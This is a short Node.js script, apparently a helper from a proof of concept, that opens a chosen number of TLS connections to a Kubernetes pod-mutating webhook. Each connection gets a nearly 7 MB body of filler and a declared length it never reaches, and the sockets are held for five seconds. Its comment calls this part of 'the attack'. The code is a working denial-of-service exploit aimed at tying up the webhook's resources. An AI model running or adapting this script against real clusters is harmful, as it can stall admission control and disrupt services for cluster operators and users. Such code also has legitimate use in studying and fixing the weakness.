import { setTimeout as delay } from 'node:timers/promises';
import { connect } from 'node:tls';

/**
 * Begins so many reviews at a webhook and sends none to its end: a process of its own, since to
 * encrypt hundreds of megabytes would hold up the registries that the attack's own process plays.
 * Arguments: host, port, how many.
 */
const [host = '', port = '', count = ''] = process.argv.slice(2);
const part = Buffer.alloc(6_900_000, '<');
const head =
  'POST /mutate--v1-pod HTTP/1.1\r\nhost: kuik\r\ncontent-type: application/json\r\n' +
  'content-length: 7000000\r\n\r\n';
const heldMs = 5_000;

const sockets = Array.from({ length: Number(count) }, () => {
  const socket = connect({ host, port: Number(port), rejectUnauthorized: false });
  socket.on('error', () => undefined);
  socket.write(head);
  socket.write(part);
  return socket;
});
await delay(heldMs);
for (const socket of sockets) socket.destroy();
